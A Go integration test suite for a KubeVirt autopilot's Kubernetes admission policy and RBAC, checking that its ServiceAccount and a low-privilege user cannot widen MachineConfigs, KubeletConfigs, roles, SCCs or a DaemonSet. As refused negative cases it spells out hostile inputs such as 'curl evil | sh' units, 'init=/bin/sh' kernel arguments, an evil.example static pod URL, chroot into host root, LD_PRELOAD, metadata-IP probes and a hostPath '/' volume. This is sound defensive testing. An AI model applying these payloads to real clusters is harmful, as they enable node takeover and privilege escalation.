package integration

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	"github.com/prometheus/client_golang/prometheus/testutil"
	admissionv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	"github.com/kubevirt/virt-platform-autopilot/assets"
	"github.com/kubevirt/virt-platform-autopilot/pkg/admission"
	"github.com/kubevirt/virt-platform-autopilot/pkg/annotations"
	"github.com/kubevirt/virt-platform-autopilot/pkg/app"
	"github.com/kubevirt/virt-platform-autopilot/pkg/engine"
	"github.com/kubevirt/virt-platform-autopilot/pkg/fleetstatus"
	"github.com/kubevirt/virt-platform-autopilot/pkg/metrics"
	"github.com/kubevirt/virt-platform-autopilot/pkg/rbac"
)

// installAdmissionPolicy creates config/rbac/admission_policy.yaml's
// policy and binding, and waits until the API server enforces them.
func installAdmissionPolicy(ctx context.Context) {
	raw, err := os.ReadFile(filepath.Join(repoRoot(), "config", "rbac", "admission_policy.yaml"))
	Expect(err).NotTo(HaveOccurred())
	docs := strings.Split(string(raw), "\n---\n")
	Expect(docs).To(HaveLen(2))
	policy, binding := &admissionv1.ValidatingAdmissionPolicy{}, &admissionv1.ValidatingAdmissionPolicyBinding{}
	Expect(yaml.Unmarshal([]byte(docs[0]), policy)).To(Succeed())
	Expect(yaml.Unmarshal([]byte(docs[1]), binding)).To(Succeed())
	// As an admin installs it: the committed policy with the images the
	// autopilot's Deployment names (cmd/rbac-gen --image), the one
	// variable that is theirs.
	cat, ts, err := app.LoadEmbedded()
	Expect(err).NotTo(HaveOccurred())
	withImages, _, err := rbac.AdmissionPolicy(assets.FS, cat, ts, hcoNamespace, autopilotUser, []rbac.Object{{GVK: schema.GroupVersionKind{Version: "v1", Kind: "ConfigMap"}, Namespace: operatorNamespace, Name: fleetstatus.Name}}, trustedImages)
	Expect(err).NotTo(HaveOccurred())
	replaced := 0
	for i, v := range policy.Spec.Variables {
		for _, w := range withImages.Spec.Variables {
			if v.Name == rbac.TrustedImages && w.Name == v.Name {
				policy.Spec.Variables[i] = w
				replaced++
			}
		}
	}
	Expect(replaced).To(Equal(1))
	// OpenShift's Scheduler, the policy's parameter (every OpenShift
	// cluster has it): masters do not run workloads until a spec says so.
	sched := newObj(schedulerGVK, "", "cluster")
	Expect(unstructured.SetNestedField(sched.Object, false, "spec", "mastersSchedulable")).To(Succeed())
	Expect(k8s.Create(ctx, sched)).To(Succeed())
	Expect(k8s.Create(ctx, policy)).To(Succeed())
	Expect(k8s.Create(ctx, binding)).To(Succeed())
	// Enforced once the API server's policy informer has it (envtest runs
	// no controller manager to report type checking: the specs below and
	// every write of the suite are the check). A probe by dry-run.
	probe := newObj(mcGVK, "", "00-admission-probe")
	Eventually(func() error {
		err := asAutopilot().Create(ctx, probe.DeepCopy(), client.DryRunAll)
		if apierrors.IsForbidden(err) && strings.Contains(err.Error(), "is not one of them") {
			return nil
		}
		return fmt.Errorf("not enforced yet: %w", err)
	}).Should(Succeed())
}

// The images the suite's autopilot runs the metrics exporter with, which
// its admission policy trusts.
const (
	exporterImage      = "quay.io/kubevirt/kubevirt-metrics-exporter:integration"
	exporterProbeImage = "quay.io/kubevirt/kubevirt-metrics-exporter:probe"
	autopilotUser      = "system:serviceaccount:" + operatorNamespace + ":virt-platform-autopilot"
)

var trustedImages = map[string][]string{"kubevirt-metrics-exporter": {exporterImage, exporterProbeImage}}

// asAutopilot is a client acting as the autopilot's ServiceAccount.
func asAutopilot() client.Client {
	c := rest.CopyConfig(cfg)
	c.Impersonate = rest.ImpersonationConfig{UserName: autopilotUser}
	cl, err := client.New(c, client.Options{})
	Expect(err).NotTo(HaveOccurred())
	return cl
}

func admissionSpecs(ctx context.Context) {
	It("is bounded by its admission policy: its ServiceAccount writes only what the catalog names, and converges under it", func() {
		requireVendorCRDs()
		// Under the policy since the suite began, every asset converged:
		// nothing the catalog writes is refused.
		for _, s := range rec.Snapshot().Assets {
			Expect(s.Outcome).NotTo(Equal(engine.Refused), "%s: %s", s.Asset, s.Reason)
		}
		Eventually(func() *unstructured.Unstructured { return get(mcGVK, "", swapMC) }).ShouldNot(BeNil())
		sa := asAutopilot()
		refused := func(err error, why string) {
			GinkgoHelper()
			Expect(apierrors.IsForbidden(err)).To(BeTrue(), "%s: want refused by admission, got %v", why, err)
			Expect(err.Error()).To(And(ContainSubstring(rbac.PolicyName), Not(ContainSubstring("resulted in error"))))
		}

		// A MachineConfig the catalog does not name, for the master pool:
		// RBAC lets the ServiceAccount create any; admission does not.
		rogue := newObj(mcGVK, "", "99-master-rogue")
		rogue.SetLabels(map[string]string{"machineconfiguration.openshift.io/role": "master"})
		Expect(unstructured.SetNestedField(rogue.Object, "3.4.0", "spec", "config", "ignition", "version")).To(Succeed())
		refused(sa.Create(ctx, rogue.DeepCopy()), "a MachineConfig outside the catalog")

		// A name a tombstone shares with an admin's object (the shipped
		// autopilot's collector binding): RBAC grants the delete by name;
		// admission lets it remove only an object carrying the label.
		admins := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "logging-collector-application"},
			RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "view"},
			Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Name: "collector", Namespace: "openshift-logging"}}}
		Expect(k8s.Create(ctx, admins.DeepCopy())).To(Succeed())
		DeferCleanup(func() { Expect(client.IgnoreNotFound(k8s.Delete(ctx, admins.DeepCopy()))).To(Succeed()) })
		refused(sa.Delete(ctx, admins.DeepCopy(), client.DryRunAll), "an admin's object of a tombstone's name")
		labelled := admins.DeepCopy()
		Expect(k8s.Get(ctx, client.ObjectKeyFromObject(labelled), labelled)).To(Succeed())
		labelled.Labels = map[string]string{annotations.ManagedByLabel: annotations.ManagedByValue}
		Expect(k8s.Update(ctx, labelled)).To(Succeed())
		Expect(sa.Delete(ctx, admins.DeepCopy(), client.DryRunAll)).To(Succeed(), "one carrying the managed-by label")
		// A person is not judged by it.
		Expect(k8s.Create(ctx, rogue.DeepCopy())).To(Succeed())
		DeferCleanup(func() { Expect(client.IgnoreNotFound(k8s.Delete(ctx, rogue))).To(Succeed()) })
		// (Deleting it RBAC refuses already: delete is granted by name.)
		Expect(apierrors.IsForbidden(sa.Delete(ctx, rogue.DeepCopy()))).To(BeTrue())

		// The catalog's own MachineConfig moved to the master pool, or with
		// a unit the catalog does not ship.
		swap := get(mcGVK, "", swapMC)
		toMaster := swap.DeepCopy()
		labels := toMaster.GetLabels()
		labels["machineconfiguration.openshift.io/role"] = "master"
		toMaster.SetLabels(labels)
		refused(sa.Patch(ctx, toMaster, client.MergeFrom(swap)), "the catalog's MachineConfig moved to the master pool")
		withUnit := swap.DeepCopy()
		units, _, _ := unstructured.NestedSlice(withUnit.Object, "spec", "config", "systemd", "units")
		units = append(units, map[string]any{"name": "rogue.service", "enabled": true, "contents": "[Service]\nExecStart=/bin/true\n"})
		Expect(unstructured.SetNestedSlice(withUnit.Object, units, "spec", "config", "systemd", "units")).To(Succeed())
		refused(sa.Patch(ctx, withUnit, client.MergeFrom(swap)), "a unit the catalog does not ship")
		withImage := swap.DeepCopy()
		Expect(unstructured.SetNestedField(withImage.Object, "quay.io/someone/rhcos:evil", "spec", "osImageURL")).To(Succeed())
		refused(sa.Patch(ctx, withImage, client.MergeFrom(swap)), "another OS image")

		// A KubeletConfig of the catalog's name is bounded by content and
		// pool too (MCO turns it into a MachineConfig of the pool it
		// selects): anonymous kubelet requests, AlwaysAllow, the read-only
		// port, or the master's pointed at the workers, are refused; as
		// the catalog renders it, it passes.
		kc := func(pool string, kubelet map[string]any) *unstructured.Unstructured {
			u := newObj(kcGVK, "", "kubevirt-kubelet-master")
			Expect(unstructured.SetNestedStringMap(u.Object, map[string]string{"pools.operator.machineconfiguration.openshift.io/" + pool: ""}, "spec", "machineConfigPoolSelector", "matchLabels")).To(Succeed())
			Expect(unstructured.SetNestedMap(u.Object, kubelet, "spec", "kubeletConfig")).To(Succeed())
			return u
		}
		refused(sa.Create(ctx, kc("master", map[string]any{"authentication": map[string]any{"anonymous": map[string]any{"enabled": true}}}), client.DryRunAll), "anonymous kubelet requests")
		refused(sa.Create(ctx, kc("master", map[string]any{"authorization": map[string]any{"mode": "AlwaysAllow"}}), client.DryRunAll), "AlwaysAllow authorization")
		refused(sa.Create(ctx, kc("master", map[string]any{"readOnlyPort": int64(10255)}), client.DryRunAll), "the kubelet's read-only port")
		refused(sa.Create(ctx, kc("worker", map[string]any{"maxPods": int64(500)}), client.DryRunAll), "the master's KubeletConfig pointed at the workers")
		// (The master's, as rendered, is admitted only where masters are
		// schedulable: the worker's is the catalog's shape here.)
		worker := kc("worker", map[string]any{"maxPods": int64(500), "nodeStatusMaxImages": int64(-1)})
		worker.SetName("kubevirt-kubelet-worker")
		Expect(unstructured.SetNestedField(worker.Object, true, "spec", "autoSizingReserved")).To(Succeed())
		err := sa.Create(ctx, worker, client.DryRunAll)
		Expect(err == nil || apierrors.IsAlreadyExists(err)).To(BeTrue(), "the catalog's KubeletConfig as rendered: %v", err)

		// What the catalog renders only where masters run workloads
		// follows the cluster's Scheduler, which the token cannot write:
		// with masters not schedulable, the catalog's own master
		// MachineConfig, as the catalog renders it, is refused.
		sched := get(schedulerGVK, "", "cluster")
		mastersSchedulable, found, _ := unstructured.NestedBool(sched.Object, "spec", "mastersSchedulable")
		Expect(found && !mastersSchedulable).To(BeTrue(), "the suite's Scheduler says masters do not run workloads")
		masterPSI := newObj(mcGVK, "", "99-master-kubevirt-psi-karg")
		masterPSI.SetLabels(map[string]string{"machineconfiguration.openshift.io/role": "master"})
		Expect(unstructured.SetNestedStringSlice(masterPSI.Object, []string{"psi=1"}, "spec", "kernelArguments")).To(Succeed())
		refused(sa.Create(ctx, masterPSI.DeepCopy(), client.DryRunAll), "a master MachineConfig where masters are not schedulable")
		Expect(unstructured.SetNestedField(sched.Object, true, "spec", "mastersSchedulable")).To(Succeed())
		Expect(apierrors.IsForbidden(sa.Update(ctx, sched.DeepCopy()))).To(BeTrue(), "the token cannot make masters schedulable")

		// Content, not only names: kernel arguments, files and units are
		// the catalog's renders (a PCI id list of its grammar aside).
		psi := get(mcGVK, "", psiMC)
		for _, arg := range []string{"selinux=0", "enforcing=0", "psi=1 selinux=0", "init=/bin/sh"} {
			withArg := psi.DeepCopy()
			Expect(unstructured.SetNestedStringSlice(withArg.Object, []string{"psi=1", arg}, "spec", "kernelArguments")).To(Succeed())
			refused(sa.Patch(ctx, withArg, client.MergeFrom(psi), client.DryRunAll), "kernel argument "+arg)
		}
		vfio := func(args ...string) *unstructured.Unstructured {
			u := newObj(mcGVK, "", "50-worker-kubevirt-vfio")
			u.SetLabels(map[string]string{"machineconfiguration.openshift.io/role": "worker"})
			Expect(unstructured.SetNestedStringSlice(u.Object, args, "spec", "kernelArguments")).To(Succeed())
			return u
		}
		refused(sa.Create(ctx, vfio("intel_iommu=on", "vfio-pci.ids=10de:1eb8 selinux=0"), client.DryRunAll), "a PCI id list carrying another argument")
		refused(sa.Create(ctx, vfio("intel_iommu=on", "vfio-pci.ids=10de:1eb8,"), client.DryRunAll), "a PCI id list out of its grammar")
		err = sa.Create(ctx, vfio("intel_iommu=on", "iommu=pt", "rd.driver.pre=vfio-pci", "vfio-pci.ids=10de:1eb8,8086:15b3"), client.DryRunAll)
		Expect(err == nil || apierrors.IsAlreadyExists(err)).To(BeTrue(), "the catalog's vfio MachineConfig with the HCO's PCI ids: %v", err)
		withScript := swap.DeepCopy()
		files, _, _ := unstructured.NestedSlice(withScript.Object, "spec", "config", "storage", "files")
		Expect(files).NotTo(BeEmpty())
		files[0].(map[string]any)["contents"] = map[string]any{"source": "data:,%23%21%2Fbin%2Fsh%0Acurl%20evil%20%7C%20sh"}
		Expect(unstructured.SetNestedSlice(withScript.Object, files, "spec", "config", "storage", "files")).To(Succeed())
		refused(sa.Patch(ctx, withScript, client.MergeFrom(swap), client.DryRunAll), "a catalog file with other contents")
		withMode := swap.DeepCopy()
		files, _, _ = unstructured.NestedSlice(withMode.Object, "spec", "config", "storage", "files")
		files[0].(map[string]any)["mode"] = int64(0o4755)
		Expect(unstructured.SetNestedSlice(withMode.Object, files, "spec", "config", "storage", "files")).To(Succeed())
		refused(sa.Patch(ctx, withMode, client.MergeFrom(swap), client.DryRunAll), "a catalog file made setuid")
		unitChanged := swap.DeepCopy()
		units, _, _ = unstructured.NestedSlice(unitChanged.Object, "spec", "config", "systemd", "units")
		Expect(units).NotTo(BeEmpty())
		units[0].(map[string]any)["contents"] = "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n"
		Expect(unstructured.SetNestedSlice(unitChanged.Object, units, "spec", "config", "systemd", "units")).To(Succeed())
		refused(sa.Patch(ctx, unitChanged, client.MergeFrom(swap), client.DryRunAll), "a catalog unit with other contents")

		// Ignition and the kubelet read keys case-insensitively: another
		// spelling is refused, as is an Ignition section of the token's
		// (a merge of another config), a static pod URL, a TLS profile.
		capitalised := newObj(mcGVK, "", "90-worker-kubevirt-multipath-reservation")
		capitalised.SetLabels(map[string]string{"machineconfiguration.openshift.io/role": "worker"})
		Expect(unstructured.SetNestedField(capitalised.Object, map[string]any{
			"ignition": map[string]any{"version": "3.4.0"},
			"Systemd":  map[string]any{"units": []any{map[string]any{"name": "x.service", "enabled": true, "contents": "[Service]\nExecStart=/bin/true\n"}}},
		}, "spec", "config")).To(Succeed())
		refused(sa.Create(ctx, capitalised.DeepCopy(), client.DryRunAll), "Ignition's systemd spelled Systemd")
		Expect(unstructured.SetNestedField(capitalised.Object, map[string]any{
			"ignition": map[string]any{"version": "3.4.0"},
			"storage":  map[string]any{"Files": []any{map[string]any{"path": "/etc/x", "contents": map[string]any{"source": "data:,x"}}}},
		}, "spec", "config")).To(Succeed())
		refused(sa.Create(ctx, capitalised.DeepCopy(), client.DryRunAll), "Ignition's files spelled Files")
		Expect(unstructured.SetNestedField(capitalised.Object, map[string]any{
			"ignition": map[string]any{"version": "3.4.0", "config": map[string]any{"merge": []any{map[string]any{"source": "data:;base64,e30="}}}},
		}, "spec", "config")).To(Succeed())
		refused(sa.Create(ctx, capitalised.DeepCopy(), client.DryRunAll), "an Ignition config merged in")
		for what, kubelet := range map[string]map[string]any{
			"a static pod URL":                {"maxPods": int64(500), "staticPodURL": "https://evil.example/pod.yaml"},
			"anonymous access spelled else":   {"maxPods": int64(500), "authentication": map[string]any{"Anonymous": map[string]any{"Enabled": true}}},
			"the read-only port spelled else": {"maxPods": int64(500), "ReadOnlyPort": int64(10255)},
			"another maxPods":                 {"maxPods": int64(100000)},
		} {
			k := kc("worker", kubelet)
			k.SetName("kubevirt-kubelet-worker")
			refused(sa.Create(ctx, k, client.DryRunAll), what)
		}
		tlsKC := kc("worker", map[string]any{"maxPods": int64(500)})
		tlsKC.SetName("kubevirt-kubelet-worker")
		Expect(unstructured.SetNestedField(tlsKC.Object, map[string]any{"type": "Old", "old": map[string]any{}}, "spec", "tlsSecurityProfile")).To(Succeed())
		refused(sa.Create(ctx, tlsKC, client.DryRunAll), "a weaker kubelet TLS profile")

		// Annotations MCO reads: one stops MCO rendering the pool.
		refused(sa.Patch(ctx, psi.DeepCopy(), client.RawPatch(types.MergePatchType,
			[]byte(`{"metadata":{"annotations":{"machineconfiguration.openshift.io/generated-by-controller-version":"x"}}}`)), client.DryRunAll), "an annotation MCO reads")
		refused(sa.Patch(ctx, psi.DeepCopy(), client.RawPatch(types.MergePatchType,
			[]byte(`{"metadata":{"labels":{"custom-pool":"yes"}}}`)), client.DryRunAll), "a label another pool could select")

		// The HCO's annotations are its editors' input: the token can
		// neither pause the autopilot nor turn a feature on.
		hco := &unstructured.Unstructured{}
		hco.SetGroupVersionKind(hcoGVK)
		hco.SetNamespace(hcoNamespace)
		hco.SetName(hcoName)
		for _, patch := range []string{
			`{"metadata":{"annotations":{"platform.kubevirt.io/autopilot":"false"}}}`,
			`{"metadata":{"annotations":{"platform.kubevirt.io/enable-kubevirt-metrics-exporter":"true"}}}`,
			`{"metadata":{"annotations":{"platform.kubevirt.io/disruption-window":"always"}}}`,
			`{"metadata":{"labels":{"someone":"else"}}}`,
		} {
			refused(sa.Patch(ctx, hco.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(patch)), client.DryRunAll), "the HCO's metadata: "+patch)
		}
		Expect(sa.Patch(ctx, hco.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"annotations":{"platform.kubevirt.io/asset":"x"}}}`)), client.DryRunAll)).To(Succeed(), "the autopilot's own stamp")

		// The autopilot says the policy is in place for it, and says so
		// when it goes.
		Eventually(func() string { return rec.Snapshot().Health.AdmissionPolicy }).Should(Equal(string(admission.Enforced)))
		Expect(testutil.ToFloat64(metrics.AdmissionPolicy.WithLabelValues(string(admission.Enforced)))).To(Equal(1.0))
		binding := &admissionv1.ValidatingAdmissionPolicyBinding{}
		Expect(k8s.Get(ctx, client.ObjectKey{Name: rbac.PolicyName}, binding)).To(Succeed())

		// Existence is not enforcement: a binding narrowed to exclude
		// MachineConfigs lets the token write one, and the health says so.
		narrowed := binding.DeepCopy()
		narrowed.Spec.MatchResources = &admissionv1.MatchResources{ExcludeResourceRules: []admissionv1.NamedRuleWithOperations{{RuleWithOperations: admissionv1.RuleWithOperations{
			Operations: []admissionv1.OperationType{admissionv1.OperationAll},
			Rule:       admissionv1.Rule{APIGroups: []string{"machineconfiguration.openshift.io"}, APIVersions: []string{"*"}, Resources: []string{"machineconfigs"}}}}}}
		Expect(k8s.Update(ctx, narrowed)).To(Succeed())
		Eventually(func() string { return rec.Snapshot().Health.AdmissionPolicy }).Should(Equal(string(admission.NotEnforced)))
		Expect(rec.Snapshot().Health.AdmissionPolicyReason).To(ContainSubstring("matchResources"))
		narrowed.Spec.MatchResources = nil
		Expect(k8s.Update(ctx, narrowed)).To(Succeed())
		Eventually(func() string { return rec.Snapshot().Health.AdmissionPolicy }).Should(Equal(string(admission.Enforced)))

		Expect(k8s.Get(ctx, client.ObjectKey{Name: rbac.PolicyName}, binding)).To(Succeed())
		Expect(k8s.Delete(ctx, binding)).To(Succeed())
		DeferCleanup(func() {
			binding.ResourceVersion = ""
			Expect(k8s.Create(ctx, binding)).To(Succeed())
			Eventually(func() string { return rec.Snapshot().Health.AdmissionPolicy }).Should(Equal(string(admission.Enforced)))
		})
		Eventually(func() string { return rec.Snapshot().Health.AdmissionPolicy }).Should(Equal(string(admission.Absent)))
		Expect(rec.Snapshot().Health.AdmissionPolicyReason).To(ContainSubstring("admission_policy.yaml"))
		Expect(testutil.ToFloat64(metrics.AdmissionPolicy.WithLabelValues(string(admission.Absent)))).To(Equal(1.0))
		Expect(logs.find(map[string]string{"state": string(admission.Absent), "action": "report"})).NotTo(BeEmpty())

		// The object as the catalog renders it passes.
		Expect(sa.Patch(ctx, swap.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"annotations":{"platform.kubevirt.io/facts":"probe"}}}`)), client.DryRunAll)).To(Succeed())
	})
}

// as is a client acting as user.
func as(user string) client.Client {
	c := rest.CopyConfig(cfg)
	c.Impersonate = rest.ImpersonationConfig{UserName: user}
	cl, err := client.New(c, client.Options{})
	Expect(err).NotTo(HaveOccurred())
	return cl
}

func deputySpecs(ctx context.Context) {
	It("never writes for an annotation's author a rule the API server refuses them (a held-out probe as a low-privilege user)", func() {
		const sw = "platform.kubevirt.io/enable-kubevirt-metrics-exporter"
		const env = "RELATED_IMAGE_KUBEVIRT_METRICS_EXPORTER"
		requireVendorCRDs()
		// OpenShift's SCC kind, so the exporter's SCC is written too (and
		// probed below); gone again after everything else.
		const sccCRD = "securitycontextconstraints.security.openshift.io"
		installCRD(ctx, readCRD(filepath.Join(vendorDir(), "openshift", "securitycontextconstraints-crd.yaml")))
		DeferCleanup(func() { removeCRD(ctx, sccCRD) })
		Expect(os.Setenv(env, exporterProbeImage)).To(Succeed())
		stopManager()
		startManager()
		update(hcoGVK, hcoNamespace, hcoName, "admin", func(u *unstructured.Unstructured) { setAnnotation(u, sw, "true") })
		DeferCleanup(func() {
			update(hcoGVK, hcoNamespace, hcoName, "admin", func(u *unstructured.Unstructured) { setAnnotation(u, sw, "") })
			Eventually(func() bool {
				return apierrors.IsNotFound(k8s.Get(ctx, client.ObjectKey{Name: "kubevirt-metrics-exporter"}, &rbacv1.ClusterRole{}))
			}).Should(BeTrue())
			Expect(os.Unsetenv(env)).To(Succeed())
			stopManager()
			startManager()
		})
		role := client.ObjectKey{Name: "kubevirt-metrics-exporter"}
		Eventually(func() error { return k8s.Get(ctx, role, &rbacv1.ClusterRole{}) }).Should(Succeed())
		Eventually(outcomeOf("kubevirt-metrics-exporter-clusterrole")).Should(Equal(engine.Unchanged))

		// Under the policy the catalog's roles, bindings, SCC and workload
		// were written as rendered; the token may not widen any of them.
		Eventually(outcomeOf("kubevirt-metrics-exporter-daemonset")).Should(Equal(engine.Unchanged))
		Eventually(outcomeOf("kubevirt-metrics-exporter-scc")).Should(Equal(engine.Unchanged))
		contentProbes(ctx)

		// Mallory may get and patch that one ClusterRole.
		const mallory = "mallory"
		grant := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "probe-patch-exporter-role"}, Rules: []rbacv1.PolicyRule{{
			APIGroups: []string{"rbac.authorization.k8s.io"}, Resources: []string{"clusterroles"}, ResourceNames: []string{role.Name}, Verbs: []string{"get", "patch"}}}}
		Expect(k8s.Create(ctx, grant)).To(Succeed())
		binding := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: grant.Name},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: grant.Name},
			Subjects: []rbacv1.Subject{{Kind: "User", APIGroup: rbacv1.GroupName, Name: mallory}}}
		Expect(k8s.Create(ctx, binding)).To(Succeed())
		// She also holds what the role grants (the API server requires it
		// of anyone who updates the role at all).
		holds := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "probe-holds-exporter-role"},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role.Name},
			Subjects: []rbacv1.Subject{{Kind: "User", APIGroup: rbacv1.GroupName, Name: mallory}}}
		Expect(k8s.Create(ctx, holds)).To(Succeed())
		DeferCleanup(func() {
			Expect(client.IgnoreNotFound(k8s.Delete(ctx, holds))).To(Succeed())
			Expect(client.IgnoreNotFound(k8s.Delete(ctx, binding))).To(Succeed())
			Expect(client.IgnoreNotFound(k8s.Delete(ctx, grant))).To(Succeed())
		})
		m := as(mallory)
		rule := map[string]any{"apiGroups": []any{"machineconfiguration.openshift.io"}, "resources": []any{"machineconfigs"}, "verbs": []any{"create"}}

		// Directly: the API server refuses (she does not hold the rule).
		direct := `{"rules":[` + mustJSON(rule) + `]}`
		err := m.Patch(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: role.Name}}, client.RawPatch(types.MergePatchType, []byte(direct)))
		Expect(apierrors.IsForbidden(err)).To(BeTrue(), "the API server's escalation check: %v", err)

		// Through the autopilot's patch annotation: the annotation is hers
		// to write, the rule is not; the autopilot refuses it.
		patch := `[{"op":"add","path":"/rules/-","value":` + mustJSON(rule) + `}]`
		ann := map[string]any{"metadata": map[string]any{"annotations": map[string]any{"platform.kubevirt.io/patch": patch}}}
		Expect(m.Patch(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: role.Name}}, client.RawPatch(types.MergePatchType, []byte(mustJSON(ann))))).To(Succeed())
		Eventually(outcomeOf("kubevirt-metrics-exporter-clusterrole")).Should(Equal(engine.Outcome(engine.VerdictInvalid)))
		Expect(status("kubevirt-metrics-exporter-clusterrole").Reason).To(ContainSubstring("rules"))
		live := &rbacv1.ClusterRole{}
		Expect(k8s.Get(ctx, role, live)).To(Succeed())
		for _, r := range live.Rules {
			Expect(r.Resources).NotTo(ContainElement("machineconfigs"), "the autopilot wrote the rule she could not")
		}
		// The ServiceAccount behind the role cannot create MachineConfigs.
		sar := &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
			User:               "system:serviceaccount:kubevirt-metrics-exporter:kubevirt-metrics-exporter",
			ResourceAttributes: &authorizationv1.ResourceAttributes{Group: "machineconfiguration.openshift.io", Resource: "machineconfigs", Verb: "create"}}}
		Expect(k8s.Create(ctx, sar)).To(Succeed())
		Expect(sar.Status.Allowed).To(BeFalse())
		m2 := map[string]any{"metadata": map[string]any{"annotations": map[string]any{"platform.kubevirt.io/patch": nil}}}
		Expect(m.Patch(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: role.Name}}, client.RawPatch(types.MergePatchType, []byte(mustJSON(m2))))).To(Succeed())
		Eventually(outcomeOf("kubevirt-metrics-exporter-clusterrole")).Should(Equal(engine.Unchanged))
	})
}

// contentProbes tries, as the autopilot's token (dry-run), to widen each
// object of the metrics exporter the catalog ships: each is refused by
// the admission policy.
func contentProbes(ctx context.Context) {
	GinkgoHelper()
	sa := asAutopilot()
	refused := func(obj client.Object, patch map[string]any, why string) {
		GinkgoHelper()
		err := sa.Patch(ctx, obj, client.RawPatch(types.MergePatchType, []byte(mustJSON(patch))), client.DryRunAll)
		Expect(apierrors.IsForbidden(err)).To(BeTrue(), "%s: want refused by admission, got %v", why, err)
		Expect(err.Error()).To(ContainSubstring(rbac.PolicyName))
	}
	const ns, name = "kubevirt-metrics-exporter", "kubevirt-metrics-exporter"
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name}}
	live := &rbacv1.ClusterRole{}
	Expect(k8s.Get(ctx, client.ObjectKeyFromObject(role), live)).To(Succeed())
	rules := []any{}
	for _, r := range live.Rules {
		rules = append(rules, r)
	}
	mcCreate := map[string]any{"apiGroups": []any{"machineconfiguration.openshift.io"}, "resources": []any{"machineconfigs"}, "verbs": []any{"create"}}
	refused(role, map[string]any{"rules": append(rules, mcCreate)}, "a rule the catalog's ClusterRole does not have")
	// (An aggregation rule the API server itself keeps to cluster-admins.)
	agg := map[string]any{"aggregationRule": map[string]any{"clusterRoleSelectors": []any{map[string]any{"matchLabels": map[string]any{"x": "y"}}}}}
	Expect(apierrors.IsForbidden(sa.Patch(ctx, role, client.RawPatch(types.MergePatchType, []byte(mustJSON(agg))), client.DryRunAll))).To(BeTrue())
	refused(role, map[string]any{"metadata": map[string]any{"labels": map[string]any{"rbac.authorization.k8s.io/aggregate-to-admin": "true"}}}, "a label aggregating the role into admin")
	binding := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name}}
	refused(binding, map[string]any{"subjects": []any{map[string]any{"kind": "ServiceAccount", "name": "default", "namespace": "default"}}}, "another subject")
	sccObj := &unstructured.Unstructured{}
	sccObj.SetGroupVersionKind(schema.GroupVersionKind{Group: "security.openshift.io", Version: "v1", Kind: "SecurityContextConstraints"})
	sccObj.SetName(name)
	refused(sccObj, map[string]any{"users": []any{"system:serviceaccount:default:default"}}, "an SCC granted to another user")
	refused(sccObj, map[string]any{"allowPrivilegedContainer": true}, "a privileged SCC")
	refused(sccObj, map[string]any{"allowHostNetwork": true}, "host network in the SCC")

	ds := &appsv1.DaemonSet{}
	Expect(k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: name}, ds)).To(Succeed())
	container := func(edit func(c map[string]any)) map[string]any {
		raw, err := runtime.DefaultUnstructuredConverter.ToUnstructured(&ds.Spec.Template.Spec.Containers[0])
		Expect(err).NotTo(HaveOccurred())
		edit(raw)
		return map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{raw}}}}}
	}
	pod := func(field string, v any) map[string]any {
		return map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{field: v}}}}
	}
	refused(ds, container(func(c map[string]any) { c["image"] = "quay.io/someone/exporter:evil" }), "an image the policy does not trust")
	refused(ds, container(func(c map[string]any) { c["command"] = []any{"/bin/sh", "-c", "chroot /proc/1/root"} }), "another command")
	refused(ds, container(func(c map[string]any) { c["args"] = []any{"--listen-address=:8080", "--cri-socket=/tmp/x"} }), "other arguments")
	refused(ds, container(func(c map[string]any) {
		c["livenessProbe"] = map[string]any{"exec": map[string]any{"command": []any{"/bin/sh", "-c", "id"}}}
	}), "a probe that runs a command")
	refused(ds, container(func(c map[string]any) {
		c["securityContext"] = map[string]any{"privileged": true}
	}), "a privileged container")
	refused(ds, container(func(c map[string]any) {
		c["env"] = append(c["env"].([]any), map[string]any{"name": "LD_PRELOAD", "value": "/sys/x.so"})
	}), "another environment")
	refused(ds, pod("hostNetwork", true), "the host's network")
	refused(ds, pod("priorityClassName", "system-node-critical"), "a priority that evicts others")
	refused(ds, container(func(c map[string]any) {
		c["readinessProbe"] = map[string]any{"httpGet": map[string]any{"host": "169.254.169.254", "path": "/", "port": int64(80)}}
	}), "a probe reaching another host")
	refused(ds, pod("serviceAccountName", "default"), "another identity")
	volumes := []any{map[string]any{"name": "root", "hostPath": map[string]any{"path": "/"}}}
